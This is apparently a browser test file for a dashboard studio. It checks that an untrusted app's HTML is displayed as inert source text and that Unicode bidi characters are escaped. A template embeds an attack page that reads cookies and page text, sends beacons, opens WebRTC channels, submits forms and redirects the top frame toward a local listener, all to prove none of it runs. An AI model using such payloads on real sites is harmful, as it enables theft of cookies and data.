// A dashboard that is an app: what somebody else's code can do on the page, which is to be read.
import { createServer } from "node:net";
import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { type Browser, hasBrowser } from "../support/browser.ts";
import { axe } from "./axe.ts";
import { open, openStudio, PROJECT, type StudioPage, until } from "./studio-page.ts";
import { startStudio } from "./studio-server.ts";

const FILE = "dashboards/app.yaml";

const appFile = (html: string) =>
  JSON.stringify({
    workbooks: {
      app: {
        name: "An app",
        dashboard: { kind: "APP", app: { html, files: { "main.js": "let one = 1;", "a.css": "b {}" } } },
      },
      text: {
        name: "Zone text",
        dashboard: {
          widgets: [{ id: "t", type: "TEXT", config: { markdown: "abc \u202eevil\u202c\n\nx" } }],
        },
      },
      empty: { name: "Nothing", dashboard: { kind: "APP", app: { entry: "m.tsx" } } },
    },
  });

/** Who listens for code that gets out: every connection counts. */
async function listener() {
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  onTestFinished(() => void server.close());
  const { port } = server.address() as { port: number };
  return { to: `127.0.0.1:${port}`, connections: () => connections };
}

/** Every way out of a frame that a script or markup has. */
const attacks = (to: string) => `<!doctype html><html><head>
<link rel="preconnect" href="http://${to}"><link rel="stylesheet" href="http://${to}/a.css"><link rel="prefetch" href="http://${to}/b">
<meta http-equiv="refresh" content="0; url=http://${to}/c"><style>@import "http://${to}/d.css"; body { background: url(http://${to}/e) }</style>
<script src="http://${to}/f.js"></script></head><body><img src="http://${to}/g" onerror="parent.hacked = 1"><iframe src="http://${to}/h"></iframe>
<iframe srcdoc="<script>location = 'http://${to}/i'</script>"></iframe><object data="http://${to}/j"></object><a id="a" href="http://${to}/k" target="_top">a</a>
<form id="form" action="http://${to}/l" target="_top"></form>
<script>
const all = [
  () => { parent.document.title = document.cookie || "read"; },
  () => { parent.document.title = parent.document.body.innerText; },
  () => { localStorage.setItem("hacked", "1"); },
  () => { fetch("/api/undo", { method: "POST", headers: { "content-type": "application/json" }, body: '{"slug":"app"}' }); },
  () => { fetch("http://${to}/m"); },
  () => { new RTCPeerConnection({ iceServers: [{ urls: "stun:${to}" }] }).createDataChannel("a"); },
  () => { navigator.sendBeacon("http://${to}/n", "a"); },
  () => { open("http://${to}/o"); },
  () => { document.getElementById("a").click(); },
  () => { document.getElementById("form").submit(); },
  () => { top.location = "http://${to}/p"; },
  () => { location = "http://${to}/q"; },
  () => { alert(1); },
];
for (const one of all) try { one(); } catch {}
document.body.dataset.ran = "yes";
</script></body></html>`;

const SOURCE = ".app pre";
const shows = (page: StudioPage, text: string) =>
  until(page, `document.querySelector(${JSON.stringify(SOURCE)})?.textContent === ${JSON.stringify(text)}`);

describe.skipIf(!hasBrowser)("an app on the page", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await open();
  });

  it("is text that runs nothing and asks nobody for anything", async () => {
    const { to, connections } = await listener();
    const html = attacks(to);
    const { page, noticed } = await openStudio(browser, { files: { [FILE]: appFile(html) } });
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await shows(page, html);
    // Nothing of a board: no breakpoints, no zoom, no layout to tidy up.
    await expect.poll(() => page.locator(".tabs button, .zoom, .tools .menu").count()).toBe(0);
    await expect.poll(() => page.locator(".head h1 small").textContent()).toBe("app");
    await expect
      .poll(() => page.evaluate(`document.querySelector(${JSON.stringify(SOURCE)}).childElementCount`))
      .toBe(0);
    await expect.poll(() => page.locator("iframe").count()).toBe(0);
    await page.getByRole("button", { name: "main.js" }).click();
    await shows(page, "let one = 1;");
    await expect
      .poll(() => page.evaluate("[document.title, location.pathname + location.hash, String(window.hacked)]"))
      .toEqual(["studio · Boardwright", "/#/app/default", "undefined"]);
    expect(connections()).toBe(0);
    expect(asked.filter((url) => url.includes(to))).toEqual([]);
    expect(noticed).toEqual([]);
    await expect.poll(() => axe(page)).toEqual([]);
  });

  it("follows its file, and says that it has none yet", async () => {
    const { page, write } = await openStudio(browser, { files: { [FILE]: appFile("<p>one</p>") } });
    await shows(page, "<p>one</p>");
    write(FILE, appFile("<p>two</p>"));
    await shows(page, "<p>two</p>");
    await page.evaluate("location.hash = '#/empty/default'");
    await until(page, "document.querySelector('.empty')?.textContent.includes('no sources yet')");
  });
});

it("is answered as JSON, to who has the key, and draws nothing out of its place", async () => {
  const { send, board } = await startStudio({
    "boardwright.yaml": PROJECT,
    [FILE]: appFile("<p>\u202eone</p>\n\ttwo"),
  });
  expect((await send("/api/board?slug=app")).status).toBe(401);
  expect((await board("app")).app).toEqual([
    { name: "html", text: "<p>\\u{202e}one</p>\n\ttwo" },
    { name: "a.css", text: "b {}" },
    { name: "main.js", text: "let one = 1;" },
  ]);
  expect((await board("empty")).app).toEqual([]);
  // A text is drawn as its title is, and edited as it is.
  const markdown = "abc \u202eevil\u202c\n\nx";
  expect((await board("text")).widgets[0]?.drawing).toEqual({
    ...{ kind: "text", markdown, text: "abc \\u{202e}evil\\u{202c}\n\nx" },
  });
});
